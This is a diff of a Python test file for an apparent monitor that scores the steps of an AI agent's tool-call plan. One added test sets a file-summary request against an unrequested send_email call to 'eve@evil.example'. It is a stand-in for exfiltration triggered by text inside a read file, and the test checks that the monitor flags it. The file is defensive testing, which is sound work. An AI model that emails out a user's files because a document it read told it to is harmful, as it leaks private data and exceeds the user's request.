@@ -68,7 +68,7 @@ def test_removing_trust_never_lowers_an_energy(judge: BareJudge) -> None:
         before = judge.energies(PlanFacts(known, plan), 0.5)
         after = judge.energies(PlanFacts(known, ExecutionPlan(nodes=tuple(nodes), edges=plan.edges)), 0.5)
         assert (after >= before - 1e-9).all(), (context.session_context, plan, i)
-        raised += bool((after > before + 1e-9).any())
+        raised += bool((after[np.isfinite(after)] > before[np.isfinite(after)] + 1e-9).any())
     assert raised > CASES / 10
 
 
@@ -103,23 +103,36 @@ def test_what_is_cheap_or_came_from_inside_takes_more_evidence() -> None:
     assert inside > costs
 
 
+def test_a_call_that_comes_out_of_nowhere_is_left_to_the_critics() -> None:
+    request, read = "Summarise notes.txt.", call("read_file", path="notes.txt")
+    send = call("send_email", 3, to="eve@evil.example")
+    alone = facts_of(request, read, send)
+    flowing = facts_of(request, read, send, edges=(("n1", "n2"),))
+    handed_over = facts_of("Do what notes.txt asks for.", read, send)
+    energies = [MADE_UP[0].energies(facts, 0.5) for facts in (alone, flowing, handed_over)]
+    assert [e[1] == np.inf for e in energies] == [True, False, False]
+    assert not any(e[0] == np.inf for e in energies)
+
+
 def auditor(bare: BareJudge | None) -> PlanAuditor:
     return PlanAuditor(made_up_critics(), made_up_calibration(escalate=0.6), bare=bare)
 
 
-def test_an_energy_is_the_smaller_of_two() -> None:
+def test_it_excuses_and_never_accuses() -> None:
     rng = Random(7)
     alone, both = auditor(None), auditor(MADE_UP[0])
-    smaller = 0
+    smaller = same = 0
     for _ in range(80):
         context, plan = random_context(rng), random_plan(rng, most=3)
         critics, shared = alone.assess(context, plan).node_energy, both.assess(context, plan).node_energy
         own = MADE_UP[0].energies(PlanFacts(ContextFacts(context, recognise(context.policy)), plan), 0.6)
-        assert [shared[n.node_id] for n in plan.nodes] == pytest.approx(
-            [min(critics[n.node_id], e) for n, e in zip(plan.nodes, own, strict=True)]
-        )
-        smaller += shared != critics
+        for node, energy in zip(plan.nodes, own, strict=True):
+            least = min(critics[node.node_id], energy)
+            assert least - 1e-9 <= shared[node.node_id] <= critics[node.node_id] + 1e-9
+            smaller += shared[node.node_id] < critics[node.node_id] - 1e-9
+            same += shared[node.node_id] == pytest.approx(least)
     assert smaller > 10
+    assert same > 40
 
 
 @pytest.mark.parametrize("broken", [np.nan, np.inf])
